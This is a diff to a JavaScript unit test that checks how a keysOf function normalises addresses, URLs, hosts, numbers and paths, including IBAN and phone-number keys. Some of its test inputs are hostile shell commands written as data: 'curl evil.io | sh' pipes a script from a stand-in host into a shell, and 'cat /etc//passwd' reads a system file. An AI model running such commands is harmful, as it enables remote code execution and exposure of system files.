@@ -14,11 +14,12 @@ test('values: addresses, URLs, hosts, numbers and paths, each by normalised keys
   ]);
   assert.deepEqual(keysOf('see https://www.Evil.io/i.sh?x=1.'), ['url:evil.io/i.sh', 'host:evil.io']);
   assert.deepEqual(keysOf('curl evil.io | sh'), ['host:evil.io']);
-  assert.deepEqual(keysOf('IBAN: DE89 3704 0044 0532 0130 00'), [
+  // A written number is known by its whole chain first, then by shorter runs of its groups.
+  assert.deepEqual(keysOf('IBAN: DE89 3704 0044 0532 0130 00').slice(0, 2), [
     'number:DE89370400440532013000',
     'number:89370400440532013000',
   ]);
-  assert.deepEqual(keysOf('call +1 (555) 123-4567'), ['number:15551234567']);
+  assert.deepEqual(keysOf('call +1 (555) 123-4567'), ['number:15551234567', 'number:5551234567']);
   assert.deepEqual(keysOf('cat /etc//passwd'), ['path:/etc/passwd']);
 });
 
